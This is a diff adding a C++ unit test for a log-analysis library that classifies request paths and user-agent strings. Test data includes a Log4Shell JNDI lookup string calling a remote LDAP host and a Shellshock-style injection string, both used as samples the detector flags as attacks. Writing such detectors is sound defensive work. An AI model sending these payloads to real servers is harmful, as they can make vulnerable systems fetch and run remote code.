@@ -1,0 +1,36 @@
+#include "src/catalog/text_tags.h"
+
+#include <gtest/gtest.h>
+
+#include "src/base/hash.h"
+
+namespace logstat {
+namespace {
+
+TEST(TextTagsTest, APathsBitsAreBesideItsHash) {
+  struct Example {
+    std::string_view path;
+    uint64_t bits;
+  };
+  for (const Example& example :
+       {Example{"/", 0}, Example{"/a/b.css", kStaticPath}, Example{"/.env", kSensitivePath}, Example{"/a'b", kOddPath},
+        Example{"/wp-login.php", kLoginPath}, Example{"/favicon.ico", kStaticPath | kUnbiddenPath}}) {
+    const uint64_t tag = PathTag(example.path);
+    EXPECT_EQ(tag & kPathBits, example.bits) << example.path;
+    EXPECT_EQ(HashOfPathTag(tag), PathHash(example.path)) << example.path;
+    EXPECT_NE(HashOfPathTag(tag), PathHash("/other")) << example.path;
+  }
+}
+
+TEST(TextTagsTest, AnAgentsKindIsBesideItsHash) {
+  const uint64_t scanner = AgentTag("sqlmap/1.8.2#stable (https://sqlmap.org)");
+  EXPECT_EQ(KindOfAgentTag(scanner), AgentKind::kScanner);
+  EXPECT_EQ(scanner & kAttackingAgent, 0U);
+  const uint64_t attack = AgentTag("${jndi:ldap://192.0.2.9/a}");
+  EXPECT_NE(attack & kAttackingAgent, 0U);
+  EXPECT_EQ(HashOfAgentTag(attack), static_cast<uint32_t>(SketchHash("${jndi:ldap://192.0.2.9/a}")));
+  EXPECT_NE(AgentTag("() { :; }; /bin/true") & kAttackingAgent, 0U);
+}
+
+}  // namespace
+}  // namespace logstat
